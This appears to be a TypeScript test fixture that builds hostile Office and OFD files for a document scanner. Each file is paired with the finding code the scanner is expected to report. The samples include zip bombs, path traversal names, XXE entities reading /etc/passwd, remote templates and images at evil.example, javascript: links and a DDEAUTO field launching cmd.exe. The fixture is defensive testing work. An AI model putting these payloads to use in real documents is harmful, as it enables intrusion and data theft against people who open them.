import type { FileFindingCode } from '../../../src/usecases/materials/material-ports.js';
import { pdfOf } from '../../support/pdf.js';
import { externalRelation, packageOf, partsOf, PNG, type Package } from './documents.js';
import type { HostileFile } from './hostile-file.js';
import { zipOf, type BuiltEntry } from './zip-builder.js';

const file = (what: string, kind: Package, finding: FileFindingCode, bytes: Buffer): HostileFile => ({
  ...{ what: `a ${kind} with ${what}`, name: `文件.${kind}`, finding, bytes },
});

const KINDS: readonly Package[] = ['docx', 'xlsx', 'pptx', 'ofd'];
const MEGABYTE = 1024 * 1024;

const part = (name: string, content: Buffer | string = 'x'): BuiltEntry => ({ name, content });

/** What is wrong with an archive, whatever it claims to be. */
const archives = KINDS.flatMap((kind): readonly HostileFile[] => {
  const whole = packageOf(kind);
  const zeros = Buffer.alloc(20 * MEGABYTE);
  return [
    file(
      'an entry that unpacks a thousandfold',
      kind,
      'unpacks-to-too-much',
      packageOf(kind, [part('a.xml', zeros)]),
    ),
    file(
      'an entry that says it is huge',
      kind,
      'unpacks-to-too-much',
      packageOf(kind, [{ ...part('a.xml'), saysUnpacked: 0xf000_0000 }]),
    ),
    file(
      'an entry that is larger than it says',
      kind,
      'unpacks-to-too-much',
      packageOf(kind, [{ ...part('a.xml', Buffer.alloc(MEGABYTE)), saysUnpacked: 10 }]),
    ),
    file(
      'an entry that is smaller than it says',
      kind,
      'broken-file',
      packageOf(kind, [{ ...part('a.xml'), saysUnpacked: 10 }]),
    ),
    file(
      'more entries than anybody needs',
      kind,
      'too-many-entries',
      packageOf(
        kind,
        Array.from({ length: 5_100 }, (_, i) => part(`a${i}.xml`, '')),
      ),
    ),
    file('an encrypted entry', kind, 'encrypted', packageOf(kind, [{ ...part('a.xml'), flags: 0x0801 }])),
    file('a path upwards', kind, 'path-not-allowed', packageOf(kind, [part('../../evil.xml')])),
    file('an absolute path', kind, 'path-not-allowed', packageOf(kind, [part('/etc/passwd')])),
    file('the same entry twice', kind, 'path-not-allowed', packageOf(kind, [part('a.xml'), part('A.xml')])),
    file('entries that share their bytes', kind, 'overlapping-entries', overlapping(kind)),
    file(
      'another name in the local header',
      kind,
      'broken-file',
      packageOf(kind, [{ ...part('a.xml'), localName: 'b.xml' }]),
    ),
    file('a wrong sum', kind, 'broken-file', packageOf(kind, [{ ...part('a.xml'), crc: 1 }])),
    file(
      'an unknown way of packing',
      kind,
      'broken-file',
      packageOf(kind, [{ ...part('a.xml'), method: 99 }]),
    ),
    file(
      'something before it',
      kind,
      'content-differs',
      packageOf(kind, [], { before: Buffer.from('GIF89a;') }).subarray(0, -30),
    ),
    file('a picture before it', kind, 'polyglot', packageOf(kind, [], { before: PNG })),
    file('a PDF before it', kind, 'polyglot', packageOf(kind, [], { before: pdfOf('before') })),
    file(
      'a PDF as its first entry',
      kind,
      'polyglot',
      zipOf([{ ...part('a.txt', pdfOf('first')), stored: true }, ...partsOf(kind)]),
    ),
    file('its end cut off', kind, 'broken-file', whole.subarray(0, -5)),
    file('something behind it', kind, 'broken-file', Buffer.concat([whole, Buffer.from('behind')])),
    file('several disks', kind, 'broken-file', packageOf(kind, [], { disk: 1 })),
    file('a count that is wrong', kind, 'broken-file', packageOf(kind, [], { saysCount: 1 })),
    file(
      'a DTD',
      kind,
      'entities',
      packageOf(kind, [part('a.xml', '<!DOCTYPE a SYSTEM "http://evil.example/x"><a/>')]),
    ),
    file(
      'an entity',
      kind,
      'entities',
      packageOf(kind, [part('a.xml', '<a/><!ENTITY x SYSTEM "file:///etc/passwd">')]),
    ),
    file(
      'a DTD in UTF-16',
      kind,
      'entities',
      packageOf(kind, [part('a.xml', Buffer.from('\ufeff<!DOCTYPE a []><a/>', 'utf16le'))]),
    ),
    file(
      'an archive in it',
      kind,
      'nested-archive',
      packageOf(kind, [part('media/a.zip', packageOf('docx'))]),
    ),
    file(
      'an archive in it that is called a picture',
      kind,
      'nested-archive',
      packageOf(kind, [part('media/a.png', packageOf('docx'))]),
    ),
    file('a program in it', kind, 'embedded-file', packageOf(kind, [part('media/a.exe', 'MZ')])),
    file(
      'a program in it that is called a picture',
      kind,
      'embedded-file',
      packageOf(kind, [part('media/a.png', 'MZ\u0000\u0003')]),
    ),
    file(
      'a picture with a script',
      kind,
      'active-content',
      packageOf(kind, [part('media/a.svg', '<svg><script>1</script></svg>')]),
    ),
  ];
});

/** Two entries of the directory that point to the same bytes: a bomb without recursion. */
function overlapping(kind: Package): Buffer {
  const entries = partsOf(kind);
  const [first] = entries;
  return zipOf(
    [...entries, { ...part('b.xml', (first as BuiltEntry).content), saysAt: 0, localName: 'b.xml' }].map(
      (entry, i, all) => (i === all.length - 1 ? { ...entry, name: (first as BuiltEntry).name + '' } : entry),
    ),
  );
}

const office = (['docx', 'xlsx', 'pptx'] as const).flatMap((kind): readonly HostileFile[] => {
  const folder = { docx: 'word', xlsx: 'xl', pptx: 'ppt' }[kind];
  const relations = (content: string): Buffer =>
    packageOf(kind, [part(`${folder}/_rels/main.xml.rels`, content)]);
  const [types, ...rest] = partsOf(kind);
  const macroTypes = {
    ...(types as BuiltEntry),
    content: String(types?.content).replace('main+xml', 'main+xml" x="application/vnd.ms-office.vbaProject'),
  };
  return [
    file('macros', kind, 'macros', packageOf(kind, [part(`${folder}/vbaProject.bin`, 'x')])),
    file(
      'macros under another name',
      kind,
      'macros',
      packageOf(kind, [part(`${folder}/vbaProjectSignature.bin`, 'x')]),
    ),
    file('controls', kind, 'macros', packageOf(kind, [part(`${folder}/activeX/activeX1.xml`, '<a/>')])),
    file('a content type of macros', kind, 'macros', zipOf([macroTypes, ...rest])),
    file(
      'an object of another program',
      kind,
      'embedded-file',
      packageOf(kind, [part(`${folder}/embeddings/oleObject1.bin`)]),
    ),
    file(
      'a template from elsewhere',
      kind,
      'external-content',
      relations(externalRelation('attachedTemplate', 'http://evil.example/t.dotm')),
    ),
    file(
      'a picture from elsewhere',
      kind,
      'external-content',
      relations(externalRelation('image', 'http://evil.example/p.png')),
    ),
    file(
      'a share of Windows',
      kind,
      'external-content',
      relations(externalRelation('image', 'file://evil.example/share/p.png')),
    ),
    file(
      'a link that runs',
      kind,
      'external-content',
      relations(externalRelation('hyperlink', 'javascript:alert(1)')),
    ),
    file(
      'a link to a file',
      kind,
      'external-content',
      relations(externalRelation('hyperlink', 'file:///c:/windows/a.exe')),
    ),
    file(
      'a workbook with macros behind a chart',
      kind,
      'macros',
      packageOf(kind, [
        part(`${folder}/embeddings/Workbook1.xlsx`, packageOf('xlsx', [part('xl/vbaProject.bin')])),
      ]),
    ),
    file(
      'a document in a document in a document',
      kind,
      'nested-archive',
      packageOf(kind, [
        part(
          `${folder}/embeddings/a.docx`,
          packageOf('docx', [part('word/embeddings/b.docx', packageOf('docx'))]),
        ),
      ]),
    ),
    file('no list of its types', kind, 'content-differs', zipOf(rest)),
    file(
      'the parts of an OFD besides',
      kind,
      'content-differs',
      packageOf(kind, [part('OFD.xml', '<OFD/>')]),
    ),
  ];
});

const single: readonly HostileFile[] = [
  file('the content of a workbook', 'docx', 'content-differs', packageOf('xlsx')),
  file('the content of a text', 'xlsx', 'content-differs', packageOf('docx')),
  file('the content of a text', 'ofd', 'content-differs', packageOf('docx')),
  file(
    'a field that starts a program',
    'docx',
    'active-content',
    packageOf('docx', [part('word/footer.xml', '<w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText>')]),
  ),
  file(
    'a link that starts a program',
    'xlsx',
    'active-content',
    packageOf('xlsx', [part('xl/other.xml', '<ddeLink ddeService="cmd"/>')]),
  ),
  file(
    'links to other workbooks',
    'xlsx',
    'external-content',
    packageOf('xlsx', [part('xl/externalLinks/externalLink1.xml', '<a/>')]),
  ),
  file(
    'sheets of old macros',
    'xlsx',
    'macros',
    packageOf('xlsx', [part('xl/macrosheets/sheet1.xml', '<a/>')]),
  ),
  file('a binary workbook in it', 'xlsx', 'macros', packageOf('xlsx', [part('xl/a.xlsb')])),
  file(
    'names that are no text',
    'docx',
    'broken-file',
    packageOf('docx', [{ name: Buffer.from([0xff, 0xff]), content: '' }]),
  ),
  file(
    'a backslash in a path',
    'docx',
    'path-not-allowed',
    packageOf('docx', [part('word\\..\\..\\evil.xml')]),
  ),
  file('a drive in a path', 'docx', 'path-not-allowed', packageOf('docx', [part('C:evil.xml')])),
  file(
    'a control character in a path',
    'docx',
    'path-not-allowed',
    packageOf('docx', [part('word/a\u0007.xml')]),
  ),
];

/** Office documents and OFD that harm whoever unpacks or opens them. */
export const hostileDocuments: readonly HostileFile[] = [...archives, ...office, ...single];
